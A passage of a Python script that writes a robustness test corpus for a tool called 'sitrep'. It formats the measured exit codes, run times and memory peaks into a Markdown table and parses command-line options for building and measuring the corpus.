        f"`sitrep run` over the corpus (inputs with a known bug, if any, run alone): exit {run['exit']}, {run['seconds']:.0f} s, "
        f"peak RSS {run['max_rss_mb']:.0f} MB. Bounds asserted by tests/test_robustness.py: <= 30 s CPU and <= 1.5 GB "
        "peak RSS per document.",
        "",
        "| inputs tried | crashes | documents lost | max wall s | max CPU s | max peak RSS MB |",
        "|---|---|---|---|---|---|",
        f"| {total['inputs']} | {total['crashes']} | {total['documents_lost']} | {total['max_seconds']:.1f} "
        f"| {total['max_cpu_seconds']:.1f} | {total['max_rss_mb']:.0f} |",
        "",
        "| input | what it is | `extract` exit | wall s | CPU s | peak RSS MB | `run`: stored / failed |",
        "|---|---|---|---|---|---|---|",
    ]
    for row in result["inputs"]:
        kind = about[row["name"]]
        run = result["runs"][kind.name if kind.run_bug else "corpus"]
        got = run["kinds"][kind.name]
        note = f" (run exit {run['exit']}: known bug)" if kind.run_bug and run["exit"] != 0 else ""
        lines.append(
            f"| `{kind.name.encode('unicode_escape').decode()}` | {kind.about.replace('<', '&lt;')} | {row['exit']} | {row['seconds']:.2f} "
            f"| {row['cpu_seconds']:.2f} | {row['max_rss_mb']:.0f} | {got['stored']} / {got['failed']}{note} |"
        )
    return "\n".join(lines) + "\n"


def main(argv: Optional[list[str]] = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path, help="folder to write the corpus into")
    parser.add_argument("--bench", action="store_true", help="also write the slow inputs (500 MB and 19 MB pages)")
    parser.add_argument("--only", nargs="+", help="write only these kinds (file names)")
    parser.add_argument("--measure", type=Path, help="run `sitrep extract` and `sitrep run`; write the numbers here")
    parser.add_argument("--table", type=Path, help="with --measure: also write a Markdown table here")
    parser.add_argument("--timeout", type=float, default=60.0, help="seconds before a child is killed")
    args = parser.parse_args(argv)
    kinds = build(args.out, bench=args.bench, only=set(args.only) if args.only else None)
    print(f"{len(kinds)} inputs in {args.out}", file=sys.stderr)
    if args.measure:
        result = measure(args.out, kinds, timeout=args.timeout)
        result["summary"] = summary(result)
        args.measure.write_text(json.dumps(result, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
        if args.table:
            args.table.write_text(table(result, kinds), encoding="utf-8")
        print(f"measured {len(kinds)} inputs → {args.measure}: {result['summary']}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
